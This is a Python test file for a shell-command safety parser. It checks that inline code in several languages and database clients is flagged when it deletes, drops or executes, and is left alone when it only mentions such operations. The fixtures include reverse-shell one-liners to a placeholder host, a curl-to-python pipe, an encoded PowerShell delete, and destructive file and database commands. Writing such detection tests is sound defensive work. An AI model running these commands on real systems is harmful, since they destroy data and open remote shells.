"""Code of other languages: what it does is found, what it only says is not."""

from __future__ import annotations

import pytest

from shellguard.parsing.script import NestedKind
from tests.parsing.parsing_view import calls, script_of

HARMLESS = [
    "python3 -c 'print(\"shutil.rmtree\")'",
    "python3 -c 'import os; print(os.getcwd())'",
    "python3 -m http.server",
    "python3 --version",
    "perl -pi -e 's/unlinked/x/g' f",
    "perl -ne 'print if /unlinking/' f",
    "perl -e '# unlink(\"a\")\nprint 1'",
    "perl -lane'print $F[0]; print \"unlink\"' f",
    "perl -F: -ane'print if $F[0] eq q(unlink) or next while $e' f",
    "ruby -e 'puts \"rm_rf\"'",
    "node -e 'console.log(\"execSync\")'",
    "node -e '// fs.rmSync(\"a\")'",
    "php -r 'echo \"unlink\";'",
    "awk -F: '{print $1}' /etc/passwd",
    "awk '$1 > 5 {print}' f",
    "psql -c 'SELECT * FROM dropped WHERE a = 1'",
    "psql -c \"SELECT 'DROP TABLE x'\"",
    "psql -c 'SELECT 1 -- DROP TABLE x'",
    "psql -c 'SELECT 1 /* ; DROP TABLE x */'",
    "mysql -e 'SHOW TABLES'",
    "sqlite3 a.db '.tables'",
    "sqlite3 -cmd '.mode csv' a.db 'select 1' <<< 'drop table x'",
    "psql -c 'select 1' <<< 'drop table x'",
    "redis-cli GET flushall",
    "mongosh --eval 'db.users.find()'",
]

DOES = [
    ("python3 -c 'import shutil; shutil.rmtree(\"/x\")'", "delete", "/x"),
    ("python3 -c 'import shutil as s; r = s.rmtree; r(\"/x\")'", "delete", "/x"),
    ("python3 -c 'from os import remove as r; r(\"/x\")'", "delete", "/x"),
    ("python3 -c 'from os import *; unlink(\"/x\")'", "delete", "/x"),
    ("python3 -c 'import pathlib; pathlib.Path(\"/x\").unlink()'", "delete", "/x"),
    ('python3 -c \'__import__("os").remove("/x")\'', "delete", "/x"),
    ('python3 -c \'import os; getattr(os, "re" + "move")("/" + "x")\'', "delete", "/x"),
    ('python3 -c \'exec("import os; os.remove(\\"/x\\")")\'', "delete", "/x"),
    ("python3 <<X\nimport os\nos.remove('/x')\nX", "delete", "/x"),
    ("echo \"import os; os.remove('/x')\" | python3 -", "delete", "/x"),
    ('python3.12 -Bc \'open("/x", "w")\'', "overwrite", "/x"),
    ('python3 -c \'import os; os.rename("/x", "b")\'', "move", "/x"),
    ("python3 -c 'import os; os.chmod(\"/x\", 0)'", "chmod", "/x"),
    ("perl -e 'unlink \"/x\"'", "delete", "/x"),
    ("perl -MFile::Path -e 'rmtree(\"/x\")'", "delete", "/x"),
    ("perl -e 'exec \"/x\"'", "execute", "/x"),
    ("perl -we'unlink \"/x\"'", "delete", "/x"),
    ("perl -MFile::Path -l0ne'rmtree(\"/x\") if $a eq q(e)' f", "delete", "/x"),
    ("ruby -ne'File.delete(\"/x\")' f", "delete", "/x"),
    ("python3 -Bc'import os; os.remove(\"/x\")'", "delete", "/x"),
    ("ruby -rfileutils -e 'FileUtils.rm_rf(\"/x\")'", "delete", "/x"),
    ("ruby -e 'File.delete(\"/x\")'", "delete", "/x"),
    ('node -e \'require("fs").rmSync("/x", {recursive: true})\'', "delete", "/x"),
    ('node -e \'fs.writeFileSync("/x", "")\'', "overwrite", "/x"),
    ("php -r 'unlink(\"/x\");'", "delete", "/x"),
    ("lua -e 'os.remove(\"/x\")'", "delete", "/x"),
    ("awk '{print > \"/x\"}' f", "overwrite", "/x"),
    ("Rscript -e 'unlink(\"/x\", recursive=TRUE)'", "delete", "/x"),
    ("psql -c 'DROP TABLE x'", "drop", "x"),
    ("psql -c 'drop table if exists x cascade'", "drop", "x"),
    ("echo 'select 1; DROP DATABASE x' | mysql", "drop", "x"),
    ("mysql -uroot -e 'TRUNCATE TABLE x'", "delete", "x"),
    ("psql <<X\nDELETE FROM x;\nX", "delete", "x"),
    ("sqlite3 a.db 'update x set a=1'", "alter", "x"),
    ("sqlite3 -cmd '.mode csv' a.db <<< 'drop table x'", "drop", "x"),
    ("sqlite3 -cmd 'drop table x' a.db 'select 1'", "drop", "x"),
    ("mysql --init-command='set a=1' shop <<< 'drop table x'", "drop", "x"),
    ("redis-cli -n 1 flushall", "drop", None),
    ("mongosh a --eval 'db.dropDatabase()'", "drop", None),
]


@pytest.mark.parametrize("line", HARMLESS)
def test_code_that_only_mentions_or_shows_does_nothing(line: str) -> None:
    assert [call for call in calls(line) if call.action not in ("read", "exit")] == []


@pytest.mark.parametrize(("line", "action", "target"), DOES)
def test_what_code_does_is_found(line: str, action: str, target: str | None) -> None:
    found = [call for call in calls(line) if call.action == action]
    assert found
    if target is not None:
        assert any(word.text == target for call in found for word in call.arguments)


def test_a_statement_without_a_condition_takes_everything() -> None:
    assert [call.recursive for call in calls("psql -c 'delete from a'")] == [True]
    assert [call.recursive for call in calls("psql -c 'delete from a where id = 1'")] == [False]
    assert [call.recursive for call in calls("psql -c 'delete from a where 1=1'")] == [True]


@pytest.mark.parametrize(
    "line",
    [
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
        'python3 -c \'import socket as k,subprocess as p;s=k.socket();s.connect(("a",1));p.call(["sh"],stdin=s.fileno())\'',
        "perl -e 'use Socket;socket(S,1,1,0);connect(S,1);exec(\"/bin/sh -i\");'",
        'ruby -rsocket -e \'c=TCPSocket.new("a",1);exec "/bin/sh"\'',
        'php -r \'$s=fsockopen("a",1);exec("/bin/sh -i <&3");\'',
        'node -e \'require("net").connect(1,"a",c=>{require("child_process").spawn("sh")})\'',
        'lua -e \'require("socket"); t=socket.tcp(); os.execute("/bin/sh -i")\'',
    ],
)
def test_a_connection_that_runs_a_shell_shows_both(line: str) -> None:
    actions = {call.action for call in calls(line)}
    assert {"connect", "execute"} <= actions


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'exec(input())'",
        "curl a | python3",
        "ruby -e 'eval(gets)'",
        "python3 -c '$x'",
        "python3 x.py",
    ],
)
def test_code_that_was_not_understood_says_so(line: str) -> None:
    found = [nested.code for command, _ in script_of(line).walk() for nested in command.nested if nested.code]
    assert found
    assert not all(code.understood for code in found)


def test_an_encoded_powershell_command_is_decoded() -> None:
    line = "pwsh -enc cgBtACAALQByACAAQwA6AFwA"
    (nested,) = script_of(line).commands[0].nested
    assert nested.kind is NestedKind.CODE
    assert nested.code is not None
    assert nested.code.text.startswith("rm -r")
